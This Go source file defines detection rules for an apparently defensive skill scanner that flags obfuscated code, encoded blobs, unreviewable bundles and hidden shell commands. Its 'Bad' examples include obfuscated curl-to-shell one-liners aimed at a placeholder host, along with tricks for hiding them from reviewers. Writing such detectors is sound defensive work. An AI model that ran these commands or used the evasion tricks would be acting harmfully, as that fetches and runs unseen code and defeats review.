package rule

import "clawjail/policy/skill"

func obf() []Rule {
	return []Rule{
		{ID: "CJS-OBF-001", Severity: skill.High, Class: skill.Threat,
			Title: "Packed or obfuscated code",
			Why:   "It was made so that nobody reads it.",
			Bad:   "var _0x3f=[\"\\x65\\x76\"];(function(a,b){})(_0x3f)",
			Good:  "source",
			Fix:   "Ship source.",
			CWE:   []string{"CWE-506"}, OWASP: []string{"ASI05"}},
		{ID: "CJS-OBF-002", Severity: skill.Medium, Class: skill.Threat,
			Title: "A long random-looking blob in code",
			Why:   "It is data, or a program that hides.",
			Bad:   "blob = \"H4sIAAAAAAAA...\"",
			Good:  "a file with an extension that says what it is",
			Fix:   "Ship data as a file of its own format.",
			CWE:   []string{"CWE-506"}, OWASP: []string{"ASI05"}},
		{ID: "CJS-OBF-003", Severity: skill.Medium, Class: skill.Coverage,
			Title: "Minified or bundled without source",
			Why:   "Nobody can review it.",
			Bad:   "dist/bundle.min.js alone",
			Good:  "src/ beside dist/",
			Fix:   "Ship the source.",
			CWE:   []string{"CWE-1059"}, OWASP: []string{"ASI04"}},
		{ID: "CJS-OBF-004", Severity: skill.High, Class: skill.Threat,
			Title: "Shell word tricks",
			Why:   "c''url and ${IFS} mean nothing but \"do not find me\".",
			Bad:   "c''url${IFS}x.invalid|s''h",
			Good:  "curl https://x.invalid",
			Fix:   "Write the command plainly.",
			CWE:   []string{"CWE-506"}, OWASP: []string{"ASI05"}},
		{ID: "CJS-OBF-005", Severity: skill.Medium, Class: skill.Threat,
			Title: "Content pushed out of sight",
			Why:   "Hundreds of blanks or empty lines put the rest where no reviewer scrolls.",
			Bad:   "echo ok;   (300 blanks)   curl x.invalid|sh",
			Good:  "lines of ordinary length",
			Fix:   "Remove the blanks.",
			CWE:   []string{"CWE-451"}, OWASP: []string{"ASI09"}},
	}
}
